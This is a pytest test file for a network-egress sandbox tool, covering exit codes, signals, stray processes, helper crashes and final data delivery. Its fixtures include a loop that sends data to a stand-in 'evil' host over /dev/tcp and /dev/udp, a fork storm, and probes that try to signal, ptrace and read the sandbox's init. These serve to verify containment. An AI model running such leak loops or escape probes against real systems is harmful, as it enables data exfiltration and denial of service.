# SPDX-License-Identifier: GPL-2.0-or-later
"""How a run ends and what its end leaves: exit status, signals, stray
processes, and the death of each process of egress-run itself."""
import contextlib
import hashlib
import os
import pathlib
import random
import re
import select
import signal
import subprocess
import time

import pytest

import lab
from launch_helpers import (ask, children, comm_of, descendants, finish,
                            is_stopped, read_line, running, status_of)

pytestmark = pytest.mark.usefixtures("egress")
E = lab.EGRESS_RUN
EVIL = "203.0.113.10"
ALLOW = ["--allow-domain", "allowed.test", "--allow-domain", "*.allowed.test",
         "--allow-domain", "second.test"]

# Fetches each host that it reads, on one line each.
FETCHER = """while read -r name; do
    curl -s -m 8 "http://$name/" || echo "failed $?"
done"""

# Prints each signal that it gets; ends at the second SIGUSR2.
CATCHER = """
import signal
names = ["HUP", "INT", "QUIT", "TERM", "USR1", "USR2", "CONT", "WINCH"]
wanted = {getattr(signal, "SIG" + name) for name in names}
signal.pthread_sigmask(signal.SIG_BLOCK, wanted)
print("ready", flush=True)
last = 0
while last < 2:
    got = signal.sigwait(wanted)
    last += got == signal.SIGUSR2
    print(got.name, flush=True)
"""

# Tries without end to get a byte to the evil host by any way.
LEAKER = f"""while :; do
    echo leak >/dev/udp/{EVIL}/9999; echo leak >/dev/tcp/{EVIL}/9999
    echo leak >/dev/udp/8.8.8.8/123
done 2>/dev/null"""


@pytest.fixture
def before():
    """What there is before the test; nothing more may be left after it."""
    found = lab.residue()
    yield found
    lab.wait_clean(found)


def leaked(far):
    """Packets that went to where the leaker sends them."""
    return far.wire(rf"> ({re.escape(EVIL)}|8\.8\.8\.8\.123)")


# ---- exit status ------------------------------------------------------------

def test_every_exit_status(host, egress):
    """125 of the command is passed on like any other."""
    script = 'seq 0 255 | xargs -P4 -I{} sh -c \'"$0" -q sh -c "exit {}"; ' \
             '[ $? = {} ] || echo {}\' "$1"'
    got = host(["sh", "-c", script, "sh", E], user="tester", timeout=60)
    assert got.out + got.err == ""


@pytest.mark.parametrize("number", [1, 2, 6, 9, 11, 13, 14, 15, 34, 64])
def test_death_by_signal(egress, who, number):
    got = egress(["sh", "-c", f"kill -{number} $$; sleep 60"], user=who)
    assert (got.rc, got.out, got.err) == (128 + number, "", "")


@pytest.mark.parametrize("command, rc, why", [
    ("/etc/passwd", 126, "Permission denied"), ("/", 126, "Permission denied"),
    ("./plain", 126, "Permission denied"),
    ("no-such-command", 127, "No such file"), ("/no/such", 127, "No such"),
    ("/etc/passwd/x", 127, "Not a directory"),
    ("./nointerpreter", 127, "No such file")])
def test_what_cannot_be_executed(egress, share, who, command, rc, why):
    (share / "plain").write_text("true\n")
    (share / "nointerpreter").write_text("#!/no/such/interpreter\n")
    (share / "nointerpreter").chmod(0o755)
    got = egress([command], user=who, cwd=share)
    assert (got.rc, got.out, got.err.count("\n")) == (rc, "", 1), got
    assert command in got.err and why in got.err


def test_a_long_run_of_stdin(egress, who):
    """At its end at once, and closed."""
    assert egress(["cat"], user=who).rc == 0
    closed = ["sh", "-c", f"exec {E} sh -c 'read x; echo $?' <&-"]
    assert lab.host(closed, user=who).out == "1\n"


# ---- signals ----------------------------------------------------------------

def test_signals_reach_the_command_once(who):
    """Those sent to egress-run, in their order."""
    sent = ["HUP", "INT", "QUIT", "TERM", "USR1", "CONT", "WINCH", "USR2",
            "HUP", "USR2"]
    with running(["/usr/bin/python3", "-c", CATCHER], who) as process:
        assert read_line(process) == "ready\n"
        for name in sent:
            process.send_signal(getattr(signal, f"SIG{name}"))
            assert read_line(process) == f"SIG{name}\n"
        assert finish(process) == (0, "", "")


@pytest.mark.parametrize("name, rc", [("TERM", 143), ("HUP", 129),
                                      ("INT", 130), ("QUIT", 131),
                                      ("USR1", 138), ("USR2", 140)])
def test_signals_end_the_command(before, name, rc):
    with running(["sleep", "1000"]) as process:
        process.run.ready()
        process.send_signal(getattr(signal, f"SIG{name}"))
        assert finish(process) == (rc, "", "")


def test_timeout_stops_it(host, before, who):
    got = host(["timeout", "0.3", E, "sh", "-c", "sleep 1000 & wait"],
               user=who)
    assert got.rc == 124 and got.seconds < 5


def test_ignored_hangup_stays_ignored(who):
    """nohup means the command too."""
    args = ["sh", "-c", "echo ready; read x; echo $x"]
    with lab.started(["env", "--ignore-signal=HUP", E, *args], who,
                     stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                     stderr=subprocess.PIPE) as process:
        assert read_line(process) == "ready\n"
        process.send_signal(signal.SIGHUP)
        assert ask(process, "still here") == "still here\n"
        assert finish(process) == (0, "", "")


def test_stop_and_continue(who):
    """A command that stops itself stops egress-run, for whoever waits."""
    with running(["sh", "-c", "kill -STOP $$; echo on"], who) as process:
        lab.wait_until(lambda: is_stopped(process.pid))
        command = process.run.command()
        assert is_stopped(command)
        process.send_signal(signal.SIGCONT)
        assert finish(process) == (0, "on\n", "")


def test_stopped_monitor(egress, far):
    """While it is stopped nothing new is admitted; after it all goes on."""
    with running([*ALLOW, "bash", "-c", FETCHER]) as process:
        assert "OK allowed.test" in ask(process, "allowed.test")
        far.mark()
        process.send_signal(signal.SIGSTOP)
        lab.wait_until(lambda: is_stopped(process.pid))
        process.stdin.write(b"second.test\n")
        process.stdin.flush()
        # The look-up got as far as our own filter's question upstream.
        lab.wait_until(lambda: far.dns("second.test"))
        assert not select.select([process.stdout], [], [], 0.3)[0]
        assert not far.http("second.test")
        process.send_signal(signal.SIGCONT)
        assert "OK second.test" in read_line(process)
        assert finish(process)[0] == 0


# ---- what the command leaves ------------------------------------------------

STRAY = ["setsid sleep 1000 &", "nohup sleep 1000 >/dev/null &",
         "(setsid sh -c 'trap \"\" HUP TERM INT; sleep 1000' &) &",
         "sleep 1000 & until pgrep -x sleep; do :; done; kill -STOP $!;"]
NESTED = "unshare -Urpf sleep 1000 &"


@pytest.mark.parametrize("who, stray", [
    *((who, stray) for who in ("root", "tester") for stray in STRAY),
    ("tester", NESTED)])
def test_daemons_die_with_the_command(egress, before, who, stray):
    script = f"{stray} until pgrep -x sleep >/dev/null; do :; done; exit 3"
    options = lab.user_namespaces() if stray == NESTED else []
    got = egress([*options, "sh", "-c", script], user=who)
    assert got.rc == 3 and got.seconds < 5 and not got.err, got


def test_background_output_does_not_hold_the_caller(egress, before):
    """Its pipe is closed when the command ends."""
    script = "(while echo x; do :; done) & head -c1 /dev/zero >&2; exit 5"
    got = egress(["sh", "-c", script])
    assert got.rc == 5 and got.seconds < 5


def test_no_zombie(egress, before, who):
    """Orphans are reaped, also 300 at once."""
    script = r"""
import glob, os, time
for _ in range(300):
    if os.fork() == 0:
        if os.fork() == 0:
            os._exit(0)
        os._exit(0)
    os.wait()
def others():
    # Zombies have an entry too.
    return len(glob.glob("/proc/[0-9]*")) - 2
end = time.monotonic() + 5
while others() and time.monotonic() < end:
    pass
print(others())
"""
    got = egress(["/usr/bin/python3", "-c", script], user=who)
    assert got.out == "0\n", got


def test_fork_storm_ends(egress, before):
    """Processes that fork while they are killed do not get away."""
    script = "f() { while :; do (sleep 1000 &); done; }; ulimit -u 2000; " \
             "for i in 1 2 3 4; do f & done; " \
             "until [ $(pgrep -c sleep) -gt 100 ]; do :; done"
    got = egress(["bash", "-c", script], user="tester", timeout=30)
    assert got.rc == 0, got


# ---- the death of our own processes -----------------------------------------

def test_killed_at_any_moment(far, host, before):
    """Nothing is left and nothing gets out, whenever the monitor dies."""
    host(["bash", "-c", LEAKER.replace("while :", "while [ -z $x ]")
          .replace("done", "x=x\ndone")], user="tester")
    assert leaked(far)
    far.mark()
    seed = random.randrange(1 << 32)
    moments = random.Random(seed)
    ran = 0
    for _ in range(60):
        with running(["bash", "-c", LEAKER], "tester") as process:
            # The moment itself: a wait for what does not come.
            select.select([process.stdout], [], [], moments.random() * 0.06)
            ran += process.run.command() != 0
            process.kill()
            # Nobody holds its pipes any more.
            assert finish(process) == (-signal.SIGKILL, "", "")
    lab.wait_clean(before)
    assert not leaked(far), f"seed {seed}"
    assert ran > 0, "no command had begun at any of these moments"


def test_killed_while_traffic_flows(far, before):
    """In the middle of transfers and look-ups."""
    script = "for i in 1 2 3 4; do (while curl -s http://allowed.test/big; " \
             "do :; done | wc -c) & done; (" + LEAKER + ") & wait"
    with running([*ALLOW, "bash", "-c", script]) as process:
        lab.wait_until(lambda: len([x for x in descendants(process.pid)
                                    if comm_of(x) == "curl"]) == 4)
        lab.wait_until(lambda: far.wire(r"> 198\.51\.100\.10\.80|"
                                        r"> 2001:db8:1::10\.80"))
        process.kill()
    lab.wait_clean(before)
    assert not leaked(far)


@pytest.mark.parametrize("name", ["egress-dns", "egress-relay"])
def test_killed_helper_is_replaced(far, before, who, name):
    """The command keeps running; look-ups and connections work again."""
    with running([*ALLOW, "bash", "-c", FETCHER], who) as process:
        assert "OK allowed.test" in ask(process, "allowed.test")
        command = process.run.command()
        old = process.run.helper(name)
        os.kill(old, signal.SIGKILL)
        lab.wait_until(lambda: process.run.helper(name) not in (0, old))
        for host in "allowed.test", "second.test", "www.allowed.test":
            assert f"OK {host}" in ask(process, host)
        assert "failed 6" in ask(process, "evil.test")
        assert process.run.command() == command
        rc, _, err = finish(process)
    assert rc == 0 and not far.dns("evil.test")
    warnings = [x for x in err.splitlines() if "warning" in x]
    assert len(warnings) == 1 and "signal 9" in warnings[0], err


def test_killed_relay_resets_its_connections(before):
    """The command is not left waiting for a transfer that has ended."""
    script = "curl -sS -o /dev/null --limit-rate 1M http://allowed.test/big; " \
             "echo $?; curl -sS http://allowed.test/"
    with running([*ALLOW, "bash", "-c", script]) as process:
        def receiving():
            found = [x for x in descendants(process.pid)
                     if comm_of(x) == "curl"]
            with contextlib.suppress(OSError, IndexError):
                with open(f"/proc/{found[0]}/net/tcp6", "rb") as table:
                    return b" 01 " in table.read()
        lab.wait_until(receiving)
        os.kill(process.run.helper("egress-relay"), signal.SIGKILL)
        rc, out, err = finish(process)
    assert rc == 0 and re.match(r"(56|18)\nOK allowed.test", out), (out, err)


@pytest.mark.parametrize("name", ["egress-dns", "egress-relay"])
def test_helper_that_keeps_dying_ends_the_run(far, before, name):
    with running(["-q", *ALLOW, "bash", "-c", LEAKER]) as process:
        process.run.ready()
        for _ in range(12):
            pid = lab.wait_until(lambda: process.run.helper(name)
                                 or process.poll() is not None)
            if pid is True:
                break
            os.kill(pid, signal.SIGKILL)
            lab.wait_until(lambda p=pid: process.run.helper(name) != p)
        rc, out, err = finish(process)
    assert (rc, out) == (125, "")
    assert "keeps dying" in err.splitlines()[-1], err
    assert err.count("warning") == 9 and err.count("error") == 1
    assert not leaked(far)


def test_killed_init_ends_the_run(far, before, who):
    with running(["-q", "bash", "-c", LEAKER], who) as process:
        process.run.ready()
        os.kill(process.run.helper("egress-init"), signal.SIGKILL)
        rc, out, err = finish(process)
    assert (rc, out, err.count("\n")) == (125, "", 1)
    assert "error: the sandbox's init died" in err
    assert not leaked(far)


def test_killed_command_is_its_own_end(before):
    with running(["sleep", "1000"]) as process:
        os.kill(process.run.ready().command(), signal.SIGKILL)
        assert finish(process) == (137, "", "")


def test_the_command_cannot_touch_them(who):
    """It sees no process of ours but init, which no signal, ptrace or /proc
    file opens to it."""
    script = """
import ctypes, glob, os, signal, sys
signal.signal(signal.SIGTERM, signal.SIG_IGN)
seen = sorted(int(x[6:]) for x in glob.glob("/proc/[0-9]*"))
print("others", [x for x in seen if x not in (1, os.getpid())])
for number in range(1, 65):
    os.kill(1, number)
libc = ctypes.CDLL(None, use_errno=True)
for request in 16, 0x4206:  # PTRACE_ATTACH, PTRACE_SEIZE
    print("ptrace", libc.ptrace(request, 1, 0, 0))
print("pidfd_getfd", libc.syscall(438, os.pidfd_open(1), 0, 0))
for name in "mem", "environ", "maps", "root/", "cwd/":
    try:
        os.stat("/proc/1/" + name) if name[-1] == "/" else \
            open("/proc/1/" + name, "rb").read(1)
        print("opened", name)
    except OSError:
        pass
for number in range(64):
    try:
        print("saw", os.readlink(f"/proc/1/fd/{number}"))
    except OSError:
        pass
sys.stdin.readline()
"""
    with running(["/usr/bin/python3", "-c", script], who) as process:
        assert finish(process) == (
            0, "others []\nptrace -1\nptrace -1\npidfd_getfd -1\n", "")


# ---- the last bytes ---------------------------------------------------------

SLOW_SINK = """
import hashlib, socket, sys
listener = socket.socket()
listener.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(("0.0.0.0", 7070))
listener.listen()
print("ready", flush=True)
connection = listener.accept()[0]
sys.stdin.readline()
digest, total = hashlib.sha256(), 0
try:
    while data := connection.recv(16384):
        digest.update(data)
        total += len(data)
    print(total, digest.hexdigest(), flush=True)
except OSError as error:
    print(total, error, flush=True)
"""


@pytest.fixture
def slow_sink():
    """A far end with a small window that reads only when it is told to."""
    with lab.started([lab.IN_INTERNET, "/usr/bin/python3", "-c", SLOW_SINK],
                     stdin=subprocess.PIPE, stdout=subprocess.PIPE) as sink:
        assert read_line(sink) == "ready\n"
        yield sink


@pytest.mark.parametrize("client", [
    "cat {0} | nc -N 198.51.100.10 7070",
    "cat {0} >/dev/tcp/198.51.100.10/7070"])
def test_the_last_bytes_are_delivered(share, slow_sink, before, client):
    """What was written just before the command ended arrives in full."""
    data = random.Random(5).randbytes(5 << 20)
    (share / "data").write_bytes(data)
    with running(["--allow-address", "198.51.100.10", "bash", "-c",
                  client.format(share / "data")]) as process:
        process.run.ready()
        got = ask(slow_sink, "read").split()
        assert finish(process, 30)[0] == 0
    assert got == [str(len(data)), hashlib.sha256(data).hexdigest()]


@contextlib.contextmanager
def sender(write, status):
    """A run whose command writes and ends when that is under way; its own end
    awaits delivery. Gives the process and the moment of the command's end."""
    script = "exec 3>/dev/tcp/198.51.100.10/7070; " \
             f"{write} echo begun; read x; exit {status}"
    with running(["--allow-address", "198.51.100.10", "bash", "-c",
                  script]) as process:
        assert read_line(process) == "begun\n"
        if write.endswith("&"):
            lab.wait_until(lambda: blocked(process.run.command()))
        init = process.run.helper("egress-init")
        process.stdin.write(b"end\n")
        process.stdin.flush()
        lab.wait_until(lambda: (status_of(init, "State") or "Z")[0] == "Z")
        yield process, time.monotonic()


def blocked(command):
    """The command's child waits in a write: all buffers on the way are full."""
    for pid in children(command):
        with contextlib.suppress(OSError):
            counters = pathlib.Path(f"/proc/{pid}/io")
            first = counters.read_text()
            select.select([], [], [], 0.2)
            return "wchar: 0\n" not in first and counters.read_text() == first
    return False


def test_bytes_in_flight_at_the_end(slow_sink, before):
    """The command has gone before the far end reads anything."""
    with sender("head -c 40000 /dev/zero >&3;", 9) as (process, _):
        got = ask(slow_sink, "read").split()
        assert finish(process)[0] == 9
    assert got[0] == "40000", got


@pytest.mark.parametrize("impatient", [False, True])
def test_a_far_end_that_never_reads(slow_sink, before, impatient):
    """Two seconds without progress, or a signal, end the wait."""
    with sender("head -c 64M /dev/zero >&3 &", 4) as (process, ended):
        if impatient:
            process.send_signal(signal.SIGTERM)
        assert finish(process, 8)[0] == 4
        seconds = time.monotonic() - ended
    assert seconds < 1.5 if impatient else 1.5 < seconds < 6
    assert slow_sink.poll() is None


# ---- privileges of what is outside ------------------------------------------

def test_helpers_have_no_privilege(who):
    """Ours, outside: no capabilities that the caller lacks, not to be traced,
    no new privileges, and gone with the monitor."""
    with running(["sleep", "1000"], who) as process:
        run = process.run.ready()
        for name in "egress-dns", "egress-relay":
            pid = run.helper(name)
            assert status_of(pid, "CapEff") == "0" * 16
            assert status_of(pid, "NoNewPrivs") == "1"
            assert os.stat(f"/proc/{pid}/mem").st_uid == 0
        if who == "tester":
            traced = lab.host(["cat", f"/proc/{process.pid}/environ"],
                              user=who)
            assert not traced.ok
